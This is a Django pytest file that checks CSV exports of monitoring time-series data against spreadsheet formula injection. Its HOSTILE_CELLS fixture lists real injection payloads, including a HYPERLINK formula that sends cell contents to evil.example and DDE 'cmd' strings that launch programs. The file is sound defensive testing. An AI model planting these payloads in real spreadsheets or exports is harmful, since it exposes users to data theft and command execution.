"""CSV formula injection (issue 12, item 8): no cell the product writes opens as a live spreadsheet formula.

OWASP's rule: a text cell starting with = + - @ tab or CR (we add LF) is prefixed with a single quote. Numbers are
numbers: a negative value is "-5.0", never "'-5.0".
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from acquisition.models import DailyValue
from monitoring.csv_safe import DANGEROUS_FIRST, csv_text
from stations.models import TimeSeries
from tests.api_helpers import bearer
from tests.factories import MonitoringLocationFactory, TimeSeriesFactory

pytestmark = pytest.mark.django_db

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def _series(unit: str = "ft^3/s"):
    return TimeSeriesFactory(kind=TimeSeries.Kind.DAILY, location=MonitoringLocationFactory(), unit=unit)


def _export(client, series) -> list[list[str]]:
    url = reverse("monitoring:station_data_csv", args=[series.location.monitoring_location_id])
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("hostile", HOSTILE_CELLS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr", "lf"])
def test_a_hostile_qualifier_status_or_unit_is_exported_as_quoted_text(hostile, viewer_client):
    # The columns' lengths (unit 20, status 12) hold for PostgreSQL; the qualifiers are a JSON list of any length.
    series = _series(unit=hostile[:20])
    DailyValue.objects.create(
        series=series, date=dt.date(2026, 1, 1), value=5.0, qualifiers=[hostile, "ICE"], approval_status=hostile[:12]
    )
    header, row = _export(viewer_client, series)
    cells = dict(zip(header, row, strict=True))
    for column in ("unit_usgs", "approval_status", "qualifiers"):
        assert cells[column].startswith("'" + hostile[0]), (column, cells[column])
    assert cells["unit_usgs"] == "'" + hostile[:20]
    assert cells["qualifiers"] == "'" + hostile + " ICE"


def test_negative_numbers_stay_numbers(viewer_client):
    series = _series()
    DailyValue.objects.create(series=series, date=dt.date(2026, 1, 1), value=-5.25, qualifiers=["-1"])
    DailyValue.objects.create(series=series, date=dt.date(2026, 1, 2), value=-1e-05)
    _, first, second = _export(viewer_client, series)
    assert first[1] == "-5.25" and second[1] == "-1e-05"
    assert first[4] == "'-1"  # the qualifier is text, so it is neutralised; the value is a number, so it is not


def test_ordinary_cells_are_left_alone(viewer_client):
    series = _series()
    DailyValue.objects.create(
        series=series, date=dt.date(2026, 1, 1), value=12.5, qualifiers=["e", "ICE"], approval_status="Approved"
    )
    _, row = _export(viewer_client, series)
    assert row[1:5] == ["12.5", "ft^3/s", "Approved", "e ICE"]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text())
def test_any_text_cell_is_safe_and_keeps_its_text(text):
    cell = csv_text(text)
    assert not cell[:1] or cell[0] not in DANGEROUS_FIRST
    assert cell == text or cell == "'" + text
    assert cell == text or text[0] in DANGEROUS_FIRST


def test_a_line_break_inside_a_cell_never_starts_a_new_row(viewer_client):
    series = _series()
    DailyValue.objects.create(series=series, date=dt.date(2026, 1, 1), value=1.0, qualifiers=["A\r=1+1", "B\n@x"])
    url = reverse("monitoring:station_data_csv", args=[series.location.monitoring_location_id])
    text = b"".join(viewer_client.get(url).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    assert rows[1][4] == "A\r=1+1 B\n@x"


def _api_export(client, user, series) -> list[list[str]]:
    response = client.get(f"/api/v1/series/{series.time_series_id}/values", headers=bearer(user))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.mark.parametrize("hostile", HOSTILE_CELLS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr", "lf"])
def test_the_api_csv_neutralises_a_hostile_qualifier_status_or_unit_as_the_page_does(hostile, client, viewer):
    series = _series(unit=hostile[:20])
    DailyValue.objects.create(
        series=series, date=dt.date(2026, 1, 1), value=-5.0, qualifiers=[hostile, "ICE"], approval_status=hostile[:12]
    )

    header, row = _api_export(client, viewer, series)

    cells = dict(zip(header, row, strict=True))
    assert cells["unit_usgs"] == "'" + hostile[:20]
    assert cells["approval_status"] == "'" + hostile[:12]
    assert cells["qualifiers"] == "'" + hostile + " ICE"
    assert cells["value"] == "-5"  # a number stays a number


def test_a_line_break_inside_an_api_csv_cell_never_starts_a_new_row(client, viewer):
    series = _series()
    DailyValue.objects.create(series=series, date=dt.date(2026, 1, 1), value=1.0, qualifiers=["A\r=1+1", "B\n@x"])

    rows = _api_export(client, viewer, series)

    assert len(rows) == 2 and rows[1][6] == "A\r=1+1 B\n@x"
